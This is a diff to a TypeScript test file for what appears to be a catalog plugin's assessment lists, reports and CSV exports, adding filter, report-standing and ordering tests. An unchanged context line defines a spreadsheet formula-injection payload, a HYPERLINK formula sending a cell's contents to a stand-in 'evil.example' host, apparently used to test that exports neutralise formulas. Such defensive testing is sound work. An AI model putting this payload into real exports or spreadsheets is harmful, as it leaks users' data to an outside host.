@@ -7,7 +7,9 @@ import {
 import { parse } from 'csv-parse/sync';
 import { countsOf } from '../__testUtils__/countsOf';
 import { entity } from '../__testUtils__/entities';
+import { excessOf } from '../__testUtils__/excessOf';
 import { Portal } from '../__testUtils__/Portal';
+import { standingOf } from '../__testUtils__/standingOf';
 
 const formula = '=HYPERLINK("http://evil.example?"&A1,"open me")';
 
@@ -27,6 +29,9 @@ const entities = [
     spec: { lifecycle: 'Experimental', owner: 'user:ann' },
   }),
   entity('Component', 'fleet', { states: { teams: '9', pods: '40..400' } }),
+  entity('Component', 'lavish', {
+    states: { audience: 'team', 'built.rung': '3' },
+  }),
   entity('Component', 'unread', { states: { rto: 'soon' } }),
   entity('API', 'orders', {
     states: { 'built.backups': 'none', rpo: '1h' },
@@ -43,8 +48,13 @@ type Matches = (row: AssessmentSummary) => boolean;
 
 /** Filters, and which rows each of them should let through. */
 const filters: [query: string, matches: Matches][] = [
+  [
+    'entityRef=Component:default/Shop&entityRef=api:default/orders&entityRef=api:default/absent',
+    ({ name }) => name === 'shop' || name === 'orders',
+  ],
   ['rung=3&rung=4', ({ rung }) => rung === 3 || rung === 4],
   ['resilience=3', ({ resilience }) => resilience === 3],
+  ['built=2&built=6', ({ built }) => built === 2 || built === 6],
   ['platform=true', ({ platform }) => platform],
   ['platform=false', ({ platform }) => !platform],
   ['posture=under-built', ({ posture }) => posture === 'under-built'],
@@ -117,8 +127,9 @@ describe('lists, exports and reports', () => {
       expected.map(({ entityRef }) => entityRef),
     );
     const { body } = await portal.get(`/v1/report?${query}`);
-    const { totals }: Report = body;
+    const { totals, standing }: Report = body;
     expect(totals).toEqual(countsOf(expected));
+    expect(standing).toEqual(standingOf(expected));
   });
 
   describe.each(assessmentOrders)('ordered by %s', orderBy => {
@@ -154,6 +165,21 @@ describe('lists, exports and reports', () => {
     expect(headrooms).toContain(Infinity);
     expect(headrooms[0]).toBeLessThan(Infinity);
   });
+
+  it.each([
+    ['asc', [-3, 1]],
+    ['desc', [1, -3]],
+  ])(
+    'end with those of which nothing tells the excess: %s',
+    async (order, known) => {
+      const { items } = await list(`orderBy=excess&order=${order}`);
+      const excesses = items.map(excessOf);
+      expect(excesses.slice(0, known.length)).toEqual(known);
+      expect(new Set(excesses.slice(known.length))).toEqual(
+        new Set([undefined]),
+      );
+    },
+  );
 
   it.each([
     ['of another order', 'orderBy=rung', 'orderBy=name'],
